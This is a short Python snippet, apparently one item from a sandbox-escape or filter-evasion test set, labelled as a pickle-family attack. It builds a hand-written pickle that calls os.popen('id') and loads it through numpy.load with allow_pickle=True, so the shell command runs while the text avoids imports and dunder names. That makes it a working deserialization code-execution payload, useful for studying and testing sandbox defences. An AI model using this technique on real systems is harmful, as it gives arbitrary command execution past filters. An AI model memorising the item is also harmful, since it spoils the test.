# family: pickle
# kind: value
# tries: numpy.load of a pickle in memory: no file, no dunder, no import in the text
# success looks like: output of id (uid=)
def job(plugin):
  pickled = b"cos\npopen\n(S'id'\ntR."
  return plugin.np.load(plugin.BytesIO(pickled), allow_pickle=True).read()
